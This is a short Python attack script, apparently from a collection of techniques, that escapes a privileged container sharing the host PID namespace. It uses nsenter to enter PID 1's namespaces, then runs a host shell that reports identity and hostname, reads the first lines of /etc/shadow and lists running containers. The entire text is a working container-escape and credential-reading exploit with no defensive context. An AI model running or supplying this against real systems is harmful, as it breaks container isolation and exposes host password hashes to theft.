# technique: nsenter into PID 1's namespaces via subprocess when the container shares the host pid namespace and is privileged
import subprocess,os
if os.path.exists("/proc/1/ns/mnt") and os.readlink("/proc/1/ns/pid")!=os.readlink("/proc/self/ns/pid") or open("/proc/1/comm").read().strip() in("systemd","init"):
    subprocess.call(["nsenter","--target","1","--mount","--uts","--ipc","--net","--pid","--","/bin/bash","-c","id; hostname; cat /etc/shadow | head -3; crictl ps 2>/dev/null || docker ps"])
